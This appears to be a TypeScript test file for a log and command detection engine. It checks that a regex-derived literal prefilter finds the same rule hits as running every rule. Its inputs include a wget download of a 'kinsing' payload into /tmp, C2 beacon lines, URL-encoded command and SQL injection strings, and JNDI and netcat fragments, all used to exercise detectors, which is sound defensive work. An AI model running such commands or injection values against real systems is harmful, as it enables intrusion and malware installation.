// The content rules' prefilter (literals derived from each rule's own regexes) against the rules
// run without it: on every rule's firing fixtures and near misses, on thousands of random lines
// built from the rules' own literals, fixture pieces, case changes and odd whitespace, and on a
// 10 MB hostile line, the prefiltered rules find exactly what every rule finds when all of them run.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { commandHits, contentHits, ungatedHits, type ContentSource } from '../../../src/core/detections/contentRules.js';
import { CONTENT_RULES } from '../../../src/core/detections/index.js';
import { LiteralMatcher } from '../../../src/core/detections/literalIndex.js';
import { requiredLiterals, TEXT_START, WORD_BOUNDARY } from '../../../src/core/detections/requiredLiterals.js';
import { CONTENT_CASES } from './contentCases.js';
import { randomLine } from './gateLines.js';
import { mulberry32 as rng } from '../../support/random.js';

const show = (hits: { rule: { id: string }; match: string }[]) => hits.map((h) => `${h.rule.id}=${JSON.stringify(h.match)}`);

function same(text: string, where: string): void {
  for (const source of ['log', 'history'] as ContentSource[]) {
    assert.deepEqual(show(contentHits(source, text)), show(ungatedHits(source, text)), `${where} (${source}): ${JSON.stringify(text).slice(0, 300)}`);
  }
  assert.deepEqual(show(commandHits(text)), show(ungatedHits('workload', text)), `${where} (workload): ${JSON.stringify(text).slice(0, 300)}`);
}


test('every content rule fixture (firing and near miss) gives the same hits through the prefilter as with every rule run', () => {
  for (const [rule, source, fires, miss] of CONTENT_CASES) {
    same(fires, `${rule} fires`);
    same(miss, `${rule} near miss`);
    assert.ok(contentHits(source, fires).some((h) => h.rule.id === CONTENT_RULES[rule].id), `${rule} still fires on ${fires}`);
  }
});

test('random lines from the rules\' own literals and fixture pieces: the prefilter never changes a hit', () => {
  let hit = 0;
  for (let seed = 1; seed <= 20000; seed++) {
    const line = randomLine(rng(seed));
    same(line, `seed ${seed}`);
    if (ungatedHits('log', line).length) hit++;
  }
  // The lines are near the rules on purpose: many of them do hit, so both paths are exercised.
  assert.ok(hit > 1000, `only ${hit} random lines hit a log rule`);
});

test('what the earlier hand-written gate let through unscreened is now found (its words missed these)', () => {
  const ids = (t: string) => contentHits('log', t).map((h) => h.rule.id);
  assert.ok(ids('c&c server 203.0.113.7:4444 answered').includes(CONTENT_RULES.c2Beacon.id));
  assert.ok(ids('calling home to 198.51.100.23:8088').includes(CONTENT_RULES.c2Beacon.id));
  assert.ok(ids('"GET /ping?host=x%26%26id HTTP/1.1" 200').includes(CONTENT_RULES.injection.id));
  assert.ok(ids('"GET /ping?host=x;+id HTTP/1.1" 200').includes(CONTENT_RULES.injection.id));
  assert.ok(ids("\"GET /login?u=a'%20or%20'1'='1 HTTP/1.1\" 200").includes(CONTENT_RULES.injection.id));
});

test('derived literals: what each kind of regex requires (the prefilter\'s building blocks)', () => {
  assert.deepEqual(requiredLiterals(/\buid=0\([^)\s]{0,32}\)\s+gid=\d/), [`${WORD_BOUNDARY}uid=0(`]);
  assert.deepEqual([...(requiredLiterals(/x(?:a|bc)?y/) ?? [])].sort(), ['xay', 'xbcy', 'xy']);
  assert.equal(requiredLiterals(/.*|a/), null, 'an alternative that requires nothing makes the regex require nothing');
  assert.deepEqual(requiredLiterals(/^nc\b/, { slice: true }), ['nc'], 'a regex run on a slice claims no text start or word boundary');
  assert.deepEqual(requiredLiterals(/^nc/), [`${TEXT_START}nc`]);
});

test('a 10 MB hostile line (near misses all along it, a real hit early and one late) gives the right hits, through the prefilter as without it', () => {
  const near = 'curl http://10.0.0. connect 203.0.113.7 nc -z wget http://192.168.1.1 uid=0 ../.x %3c ${jndi ';
  const head = `wget http://203.0.113.7/kinsing -O /tmp/kinsing ${near}`;
  let line = head;
  while (line.length < 10 * 1024 * 1024) line += near;
  line += ' uid=0(root) gid=0(root)';
  const ids = (hits: { rule: { id: string } }[]) => hits.map((h) => h.rule.id).sort();
  // Only the first 16 KB of a line is screened (the rules' bound): the early hit is found, the late one is not.
  assert.deepEqual(ids(contentHits('log', line)), [CONTENT_RULES.logDownload.id]);
  same(line, '10 MB line');
  // The prefilter itself stays linear on the whole line: it finds the literal at its very end.
  const m = new LiteralMatcher(requiredLiterals(/\buid=0\([^)\s]{0,32}\)\s+gid=\d/)!);
  assert.equal(m.test(line), true);
  assert.equal(m.test(line.slice(0, -30)), false);
});
